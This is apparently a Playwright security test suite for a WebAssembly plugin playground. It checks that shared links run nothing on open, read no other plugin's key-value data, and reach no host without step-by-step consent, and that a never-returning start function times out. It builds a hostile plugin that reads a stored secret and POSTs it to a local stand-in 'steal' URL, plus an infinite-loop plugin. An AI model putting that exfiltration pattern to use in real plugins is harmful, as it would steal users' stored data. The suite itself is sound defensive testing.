// Fault and abuse suite: what a stranger's link or plugin may do when it is opened. Nothing runs on open,
// a link's plugins claim no namespace and reach no host until the person agrees, and a start function that
// never returns ends in a timeout instead of a hung page.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { Browser, Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { buildWat, WAT_BLOCK, watString } from './hostile';

const ATTACKER_PORT = 4393;
const STEAL_URL = `http://127.0.0.1:${ATTACKER_PORT}/steal`;

async function openApp(page: Page, path = './') {
	await page.goto(path);
	await expect(page.locator('body[data-ready="true"]')).toBeAttached();
}

/** A server that records every request a plugin makes to it, and allows any origin to read its answers. */
async function attackerServer(): Promise<{ server: Server; seen: { body: string }[] }> {
	const seen: { body: string }[] = [];
	const server = createServer((req: IncomingMessage, res) => {
		const chunks: Buffer[] = [];
		req.on('data', (c: Buffer) => chunks.push(c));
		req.on('end', () => {
			if (req.method !== 'OPTIONS') seen.push({ body: Buffer.concat(chunks).toString('utf8') });
			res.writeHead(200, {
				'access-control-allow-origin': '*',
				'access-control-allow-headers': '*',
				'access-control-allow-methods': '*'
			});
			res.end('ok');
		});
	});
	await new Promise<void>((resolve) => server.listen(ATTACKER_PORT, '127.0.0.1', resolve));
	return { server, seen };
}

/**
 * The exfiltrating plugin: its start function and its `run` export both read the KV key "count" and POST
 * its value to the attacker's server; `run` outputs what it read.
 */
async function exfiltrator(): Promise<Buffer> {
	const request = JSON.stringify({ method: 'POST', url: STEAL_URL });
	const data = `(data (i32.const 0) "count") (data (i32.const 16) "${watString(request)}")`;
	return buildWat(`(module
		(import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
		(import "extism:host/env" "length" (func $length (param i64) (result i64)))
		(import "extism:host/env" "store_u8" (func $store_u8 (param i64 i32)))
		(import "extism:host/env" "output_set" (func $output_set (param i64 i64)))
		(import "extism:host/env" "http_request" (func $http_request (param i64 i64) (result i64)))
		(import "extism:host/user" "kv_read" (func $kv_read (param i64) (result i64)))
		(memory (export "memory") 1)
		${data}
		${WAT_BLOCK}
		(func $steal (result i64) (local $secret i64)
			(local.set $secret (call $kv_read (call $block (i32.const 0) (i32.const 5))))
			(drop (call $http_request
				(call $block (i32.const 16) (i32.const ${Buffer.byteLength(request)}))
				(local.get $secret)))
			(local.get $secret))
		(func $on_start (drop (call $steal)))
		(start $on_start)
		(func (export "run") (result i32) (local $secret i64)
			(local.set $secret (call $steal))
			(call $output_set (local.get $secret) (call $length (local.get $secret)))
			(i32.const 0)))`);
}

/** A plugin whose start function never returns, and whose export would answer "ran". */
async function stuckStart(): Promise<Buffer> {
	return buildWat(`(module
		(import "extism:host/env" "output_set" (func $output_set (param i64 i64)))
		(memory (export "memory") 1)
		(func $spin (loop $forever (br $forever)))
		(start $spin)
		(func (export "run") (result i32) (i32.const 0)))`);
}

async function uploadPlugin(page: Page, name: string, buffer: Buffer) {
	await page.getByLabel('Plugin file').setInputFiles({
		name,
		mimeType: 'application/wasm',
		buffer
	});
	await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
}

async function hostSettings(
	page: Page,
	change: { namespace?: string; host?: string; timeoutMs?: number }
) {
	const settings = page.getByRole('region', { name: 'Host settings' });
	await settings.getByText('Host settings').click();
	if (change.namespace !== undefined) {
		await settings.getByRole('textbox', { name: 'KV namespace' }).fill(change.namespace);
	}
	if (change.timeoutMs !== undefined) {
		await settings.getByRole('spinbutton', { name: 'Timeout (ms)' }).fill(String(change.timeoutMs));
	}
	if (change.host !== undefined) {
		await settings.getByRole('textbox', { name: 'Allowed host' }).fill(change.host);
		await settings.getByRole('button', { name: 'Add host' }).click();
	}
	await settings.getByRole('button', { name: 'Apply settings' }).click();
}

async function makeLink(page: Page): Promise<string> {
	await page.getByRole('button', { name: 'Share', exact: true }).click();
	const dialog = page.getByRole('dialog', { name: 'Share this workspace' });
	const link = dialog.getByRole('textbox', { name: 'Share link' });
	await expect(link).toHaveValue(/#v1\./);
	const url = await link.inputValue();
	await dialog.getByRole('button', { name: 'Close' }).click();
	return url;
}

/** A sender in a context of its own makes a link to the plugins it uploads, with the settings given. */
async function linkFrom(
	browser: Browser,
	plugins: { name: string; bytes: Buffer; namespace?: string; host?: string }[]
): Promise<string> {
	const context = await browser.newContext();
	const page = await context.newPage();
	await openApp(page);
	for (const plugin of plugins) {
		await uploadPlugin(page, plugin.name, plugin.bytes);
		if (plugin.namespace !== undefined || plugin.host !== undefined) {
			await hostSettings(page, { namespace: plugin.namespace, host: plugin.host });
		}
	}
	const url = await makeLink(page);
	await context.close();
	return url;
}

test("a stranger's link runs nothing, reads no other plugin's KV and reaches no host until the person agrees", async ({
	page,
	browser
}) => {
	const { server, seen } = await attackerServer();
	try {
		const url = await linkFrom(browser, [
			{
				name: 'innocent.wasm',
				bytes: await exfiltrator(),
				namespace: 'example:kv-counter',
				host: '*'
			}
		]);

		// The victim has counted to 2 with the kv-counter example: its namespace holds "count".
		await openApp(page);
		await page
			.getByRole('combobox', { name: 'Example' })
			.selectOption({ label: 'Key-value counter' });
		await page.getByRole('button', { name: 'Run', exact: true }).click();
		await page.getByRole('button', { name: 'Run', exact: true }).click();
		await expect(page.getByRole('region', { name: 'Output' })).toContainText(/"count":\s*2/);

		// Opening the link: nothing runs, nothing is sent, and the page says what the link asks for.
		await page.goto(url);
		await expect(page.locator('body[data-ready="true"]')).toBeAttached();
		const asks = page.getByRole('region', {
			name: 'This link asks for more than running its plugins'
		});
		await expect(asks).toContainText(
			'to use the KV namespace "example:kv-counter", which holds 1 entry here'
		);
		await expect(asks).toContainText('The link lets "innocent.wasm" reach "*" with http_request');
		await expect(page.getByRole('region', { name: 'History' })).toContainText('No calls yet');
		await page.waitForTimeout(1000);
		expect(seen).toEqual([]);

		// Run with the safe defaults: its own empty namespace, no host. The start function ran inside the
		// call (its own trace step) and its request was refused.
		await page.getByRole('button', { name: 'Run', exact: true }).click();
		const trace = page.getByRole('region', { name: 'Trace' });
		await expect(trace).toContainText('instantiate');
		await expect(trace).toContainText('refused');
		expect(seen).toEqual([]);

		// Each yes is explicit: the namespace first (the secret is then readable, but still goes nowhere)...
		await asks.getByRole('button', { name: 'Use namespace "example:kv-counter"' }).click();
		await expect(
			asks.getByRole('button', { name: 'Use namespace "example:kv-counter"' })
		).toHaveCount(0);
		await page.getByRole('button', { name: 'Run', exact: true }).click();
		await expect(trace).toContainText('kv_read');
		await expect(trace).toContainText('refused');
		expect(seen).toEqual([]);

		// ...then the hosts: only now does the plugin's request leave the page.
		await asks.getByRole('button', { name: 'Allow this host' }).click();
		await expect(asks).toHaveCount(0);
		await page.getByRole('button', { name: 'Run', exact: true }).click();
		// kv-counter stores the bare number; the plugin outputs what it read and sent.
		await expect(page.getByRole('region', { name: 'Output' })).toContainText('2');
		await expect.poll(() => seen.length).toBeGreaterThan(0);
		expect(seen.map((r) => r.body)).toContain('2');
		expect(seen.every((r) => r.body === '2')).toBe(true);
	} finally {
		await new Promise((resolve) => server.close(resolve));
	}
});

test('an autorun link to an example asks first, then runs with its own namespace and hosts', async ({
	page,
	browser
}) => {
	// A link to kv-counter in the victim's own namespace, with autorun.
	const sender = await browser.newContext();
	const s = await sender.newPage();
	await openApp(s);
	await s.getByRole('combobox', { name: 'Example' }).selectOption({ label: 'Key-value counter' });
	await expect(s.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
	const link = `${await makeLink(s)}&autorun=1`;
	await sender.close();

	await openApp(page);
	await page
		.getByRole('combobox', { name: 'Example' })
		.selectOption({ label: 'Key-value counter' });
	await page.getByRole('button', { name: 'Run', exact: true }).click();
	await expect(page.getByRole('region', { name: 'Output' })).toContainText(/"count":\s*1/);

	await page.goto(link);
	await expect(page.locator('body[data-ready="true"]')).toBeAttached();
	const asks = page.getByRole('region', {
		name: 'This link asks for more than running its plugins'
	});
	await expect(asks).toContainText('The link asks to run "count" of "Key-value counter"');
	await expect(page.getByRole('region', { name: 'History' })).toContainText('No calls yet');
	await asks.getByRole('button', { name: 'Run it now' }).click();
	// Its own fresh namespace: the count starts again at 1; the victim's stays at 1.
	await expect(page.getByRole('region', { name: 'Output' })).toContainText(/"count":\s*1/);
	await asks.getByRole('button', { name: 'Use namespace "example:kv-counter"' }).click();
	await page.getByRole('button', { name: 'Run', exact: true }).click();
	await expect(page.getByRole('region', { name: 'Output' })).toContainText(/"count":\s*2/);
});

test('a start function that never returns times out at the first call, blaming it; the other plugins work', async ({
	page,
	browser
}) => {
	const stuck = await stuckStart();
	const context = await browser.newContext();
	const sender = await context.newPage();
	await openApp(sender);
	await uploadPlugin(sender, 'stuck.wasm', stuck);
	await hostSettings(sender, { timeoutMs: 1500 });
	await sender.getByRole('combobox', { name: 'Example' }).selectOption({ label: 'Greet' });
	await expect(sender.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
	const url = await makeLink(sender);
	await context.close();

	// Opening the link loads both plugins: compiling and inspecting runs none of the start code.
	await page.goto(url);
	await expect(page.locator('body[data-ready="true"]')).toBeAttached();
	const tabs = page.getByRole('navigation', { name: 'Loaded plugins' });
	await expect(tabs.getByRole('button', { name: 'stuck.wasm', exact: true })).toBeVisible();
	await expect(tabs.getByRole('button', { name: 'Greet', exact: true })).toBeVisible();
	await page.getByRole('textbox', { name: 'Input' }).fill('still here');
	await page.getByRole('button', { name: 'Run', exact: true }).click();
	await expect(page.getByRole('region', { name: 'Output' })).toContainText('Hello, still here!');

	await tabs.getByRole('button', { name: 'stuck.wasm', exact: true }).click();
	await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
	await page.getByRole('button', { name: 'Run', exact: true }).click();
	const output = page.getByRole('region', { name: 'Output' });
	await expect(output).toContainText('start function did not return within 1.5 s', {
		timeout: 15_000
	});
	await expect(output).toContainText('export "run" never ran');
	// The page stayed responsive and the plugin can be tried again.
	await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();

	// A reload keeps the workspace and does not hang: the start code still waits for a Run.
	await page.reload();
	await expect(page.locator('body[data-ready="true"]')).toBeAttached();
	await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
});
